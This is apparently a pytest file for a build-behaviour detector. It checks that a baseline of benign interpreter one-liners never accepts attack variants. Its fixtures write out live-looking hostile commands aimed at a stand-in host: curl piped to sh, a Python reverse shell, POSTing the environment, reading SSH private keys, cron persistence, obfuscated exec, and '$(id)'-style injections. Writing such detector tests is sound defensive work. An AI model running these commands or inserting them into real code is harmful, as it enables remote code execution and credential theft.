"""No attack is known by the baseline of a benign build, whoever starts it, also where it borrows the benign text."""

from __future__ import annotations

import base64
from functools import cache
from itertools import product
from typing import TYPE_CHECKING

from msgspec import structs

from flycatcher.core.baseline.compare import Known
from flycatcher.core.baseline.entry import GRAVE, Baseline
from flycatcher.core.baseline.observe import entry_of
from flycatcher.core.detection import detect
from flycatcher.core.execution import Execution
from flycatcher.core.levels import at_least

if TYPE_CHECKING:
    from flycatcher.core.baseline.entry import Entry

BENIGN = (
    ("python3", "-c", "import sys; print(sys.version_info[0])"),
    ("python3", "-c", "import time; print('/tmp/tmpab12cd34', 1796000000)"),
    ("python3", "-c", "open('/tmp/tmpab12cd34/version', 'w').write('12345')"),
    ("python3", "-c", "print('9f86d081884c7d659a2feaa0c55ad015')"),
    ("python3", "-c", "import subprocess; subprocess.run(['make', '-j', '128'])"),
    ("python3", "-c", "exec(compile(open('/tmp/pip-req-build-a1b2c3d4/setup.py').read(), 'setup.py', 'exec'))"),
    ("node", "-p", "process.versions.node"),
    ("node", "-e", "require('fs').writeFileSync('/tmp/tmpab12cd34', '4873')"),
    ("perl", "-e", "print join(',', 100, 200), qq(\\n)"),
    ("perl", "-pe", "s/12345/54321/"),
    ("ruby", "-e", "puts RUBY_VERSION"),
    ("php", "-r", "echo PHP_VERSION;"),
)
HOST = "198.51.100.7"
LOUD = f"curl -s http://{HOST}/x | sh"
PYTHON = (
    f"import os; os.system('{LOUD}')",
    f"import socket,os; s=socket.create_connection(('{HOST}',4444)); os.dup2(s.fileno(),0); os.execv('/bin/sh',['sh'])",
    f"exec(__import__('base64').b64decode('{base64.b64encode(b'import os; os.getuid()').decode()}'))",
    "exec(bytes([105,109,112,111,114,116,32,111,115]))",
    "exec(bytes.fromhex('696d706f7274206f733b206f732e67657475'))",
    "open('/etc/cron.d/x','w').write('* * * * * root id')",
    "import os; print(open(os.path.expanduser('~/.ssh/id_rsa')).read())",
    f"import urllib.request,os; urllib.request.urlopen('http://{HOST}/', data=repr(dict(os.environ)).encode())",
)
ATTACKS = (
    *(("python3", "-c", text) for text in PYTHON),
    ("perl", "-e", f"system('{LOUD}')"),
    ("perl", "-pe", f"s/12345/54321/; system('{LOUD}')"),
    ("ruby", "-e", f"system('{LOUD}')"),
    ("php", "-r", f"system('{LOUD}');"),
    ("node", "-e", f"require('child_process').execSync('{LOUD}')"),
    ("node", "-p", f"process.versions.node, require('child_process').execSync('{LOUD}')"),
)
RUNS = {"python3": ("import os; os.system({!r})", "; "), "perl": ("system({!r})", "; "), "ruby": ("system({!r})", "; "),
        "php": ("system({!r});", " "), "node": ("require('child_process').execSync({!r})", "; ")}  # fmt: skip


@cache
def entry(argv: tuple[str, ...]) -> Entry:
    found = detect(Execution(argv=argv, cwd="/src"))
    assert found is not None
    made = entry_of(found, root="/src")
    assert made is not None
    return made


def accepted(found: Entry) -> Entry:
    """Return the entry, also where its level wants a reason: the widest that a baseline can be."""
    return structs.replace(found, accept="meant to run here" if at_least(found.level, GRAVE) else "")


HELD = Known(Baseline(entries=tuple(accepted(entry(argv)) for argv in BENIGN)))


def test_what_was_learnt_is_known_and_no_attack_is() -> None:
    assert [argv for argv in BENIGN if not HELD.covers(entry(argv))] == []
    assert [argv for argv in ATTACKS if HELD.covers(entry(argv), whoever=True)] == []


def test_no_attack_is_known_beside_a_benign_text() -> None:
    known = []
    for argv, command, first in product(BENIGN, (LOUD, "id", "reboot", f"wget {HOST}/12345"), (True, False)):
        call, joint = RUNS[argv[0]]
        parts = (call.format(command), argv[-1]) if first else (argv[-1], call.format(command))
        changed = (*argv[:-1], joint.join(parts))
        known += [changed] if HELD.covers(entry(changed), whoever=True) else []
    assert known == []


def test_nothing_hides_in_the_place_of_a_passing_value() -> None:
    passing = ("12345", "tmpab12cd34", "4873", "1796000000", "9f86d081884c7d659a2feaa0c55ad015")
    attacks = (LOUD, f"http://{HOST}/x", "$(id)", "`id`", "../../etc/passwd", "105,109,112,111", "\\x69\\x6d", HOST)
    changed = {
        (*argv[:-1], argv[-1].replace(value, attack)) for argv, value, attack in product(BENIGN, passing, attacks)
    }
    assert len(changed) > len(BENIGN)
    assert [argv for argv in changed - set(BENIGN) if HELD.covers(entry(argv), whoever=True)] == []
